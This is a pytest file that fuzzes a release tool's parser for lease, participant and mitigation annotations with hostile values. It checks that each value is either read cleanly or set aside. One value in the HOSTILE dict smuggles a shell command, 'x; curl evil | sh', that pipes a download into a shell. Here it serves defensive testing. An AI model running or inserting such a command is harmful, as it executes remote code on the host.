"""Whatever stands in our annotations is read, or set aside as a value: nothing is raised, and nothing odd is believed.

The cases are made from the models' own fields, so that a new field joins by itself.
"""

import json
from collections.abc import Iterator
from typing import Any

import pytest

from playbook.incident.decision_matrix import Symptom
from playbook.lease.lease import HotfixLease, Lease, MigrationLease, ReleaseLease, RollbackLease, ServiceRollout
from playbook.lease.record import (
    EPOCH,
    INCIDENTS,
    LAST_GOOD,
    LEASE,
    MITIGATION,
    PARTICIPANT,
    PREFIX,
    Mitigation,
    Participant,
    Record,
    Unreadable,
)
from playbook.release.promotion import Promotion
from playbook.release.request import HotfixRequest, Measure, RollbackRequest
from playbook.release.traffic import Scaling, TrafficSplit

SERVICE, OTHER = "ethixai-ai-core", "ethixai-backend"
ROLLOUTS = tuple(
    ServiceRollout(
        service=name,
        from_revision=f"{name}-old",
        to_revision=f"{name}-new",
        found=TrafficSplit.all_to(f"{name}-old"),
        image="r@sha256:1",
    )
    for name in (SERVICE, OTHER)
)
COMMON: dict[str, Any] = {
    "release_id": "v20251116-abc123-1f2e3d",
    "version": "v20251116-abc123",
    "flow_run_id": "123e4567-e89b-12d3-a456-426614174000",
    "epoch": 100,
    "rollouts": ROLLOUTS,
    "canary_percent": 10,
    "deadline_s": 1e9,
}
LEASES: dict[str, Lease] = {
    "release": ReleaseLease(**COMMON),
    "hotfix": HotfixLease(request=HotfixRequest(version="v20251116-hotfix1-abc123"), **COMMON),
    "rollback": RollbackLease(request=RollbackRequest(symptom=Symptom.UI_BUG), **COMMON),
    "migration": MigrationLease(**COMMON),
}
SPLIT = TrafficSplit.all_to("old")
MODELS = {
    **{f"lease of a {kind}": (LEASE, json.loads(lease.stored()), type(lease)) for kind, lease in LEASES.items()},
    "participant": (
        PARTICIPANT,
        json.loads(Participant(release_id="r", epoch=100, coordinator=OTHER, split=SPLIT).model_dump_json()),
        Participant,
    ),
    "mitigation": (
        MITIGATION,
        json.loads(
            Mitigation(
                measure=Measure.SCALE, by="a", reason="b", at_s=1, split=SPLIT, scaling=Scaling()
            ).model_dump_json()
        ),
        Mitigation,
    ),
}
DEEP = "[" * 10_000 + "]" * 10_000
HOSTILE = {
    "null": "null",
    "true": "true",
    "NaN": "NaN",
    "Infinity": "Infinity",
    "1e999": "1e999",
    "minus one": "-1",
    "10^4000": "1" + "0" * 4000,
    "400": "400",
    "not a UUID": '"not-a-uuid"',
    "a command": '"x; curl evil | sh"',
    "empty text": '""',
    "NUL": '"\\u0000"',
    "a surrogate": '"\\ud800"',
    "250 kB": '"' + "x" * 250_000 + '"',
    "deep": DEEP,
    "empty list": "[]",
    "empty object": "{}",
    "a list of null": "[null]",
    "no JSON": "{",
}


def written(fields: dict[str, Any], changed: str, value: str) -> str:
    """The JSON object with one field replaced by the text ``value``, which need not be JSON."""
    kept = {name: one for name, one in fields.items() if name != changed}
    return json.dumps(kept)[:-1] + f', "{changed}": {value}}}'


def cases() -> Iterator[Any]:
    """Every field of every model that is stored, with every hostile value."""
    for model, (key, fields, shape) in MODELS.items():
        for field in shape.model_fields:
            for name, value in HOSTILE.items():
                yield pytest.param(key, written(fields, field, value), id=f"{model}.{field}: {name}")
    for key in (LEASE, PARTICIPANT, MITIGATION, LAST_GOOD, EPOCH, INCIDENTS):
        for name, value in HOSTILE.items():
            yield pytest.param(key, value, id=f"{key.removeprefix(PREFIX)}: {name}")
            yield pytest.param(key, f"[{value}]", id=f"{key.removeprefix(PREFIX)}: a list of {name}")
    for field in ServiceRollout.model_fields:
        for name, value in HOSTILE.items():
            rollout = written(json.loads(ROLLOUTS[0].model_dump_json(exclude_defaults=True)), field, value)
            lease = written(json.loads(LEASES["release"].stored()), "rollouts", f"[{rollout}]")
            yield pytest.param(LEASE, lease, id=f"rollout.{field}: {name}")
    for field in Promotion.model_fields:
        for name, value in HOSTILE.items():
            good = Promotion(release="v1", revision="r", digest="", promoted_at_s=1)
            one = written(json.loads(good.model_dump_json()), field, value)
            yield pytest.param(LAST_GOOD, f"[{one}]", id=f"promotion.{field}: {name}")


@pytest.mark.parametrize(("key", "value"), cases())
def test_hostile_annotations_are_read_or_set_aside(key: str, value: str) -> None:
    """Either a record that can be written and read again, with names that are safe in a command; or a short sentence
    that names the service."""
    found = Record.parse(SERVICE, {EPOCH: "100", key: value})
    if isinstance(found, Unreadable):
        assert str(found).startswith(SERVICE)
        assert len(str(found)) < 600
        return
    assert Record.parse(SERVICE, found.annotations()) == found
    if found.lease is not None:
        assert not found.lease.problems()
        assert found.lease.coordinator == SERVICE


ASIDE = {
    "a flow run that is no UUID": {"flow_run_id": '"not-a-uuid"'},
    "a share of 400 %": {"canary_percent": "400"},
    "a deadline that is no number": {"deadline_s": "NaN"},
    "no services": {"rollouts": "[]"},
    "an epoch of 4000 digits": {"epoch": "1" + "0" * 4000},
    "another epoch than the service's": {"epoch": "99"},
}


@pytest.mark.parametrize("changes", ASIDE.values(), ids=ASIDE)
def test_a_lease_that_cannot_be_true_is_set_aside(changes: dict[str, str]) -> None:
    """Cases H1 and H3."""
    ((field, value),) = changes.items()
    lease = written(json.loads(LEASES["release"].stored()), field, value)
    assert isinstance(Record.parse(SERVICE, {EPOCH: "100", LEASE: lease}), Unreadable)


def test_a_lease_that_stands_on_another_service_is_set_aside() -> None:
    """Copied from its coordinator, it would be recovered a second time."""
    assert isinstance(Record.parse(OTHER, {EPOCH: "100", LEASE: LEASES["release"].stored()}), Unreadable)


def test_a_release_that_has_ended_is_set_aside() -> None:
    """Its incident is on the coordinator: the lease was written back after its end."""
    lease = LEASES["release"]
    annotations = {EPOCH: "100", LEASE: lease.stored(), INCIDENTS: lease.release_id}
    found = Record.parse(SERVICE, annotations)
    assert isinstance(found, Unreadable)
    assert "has ended" in found.problem
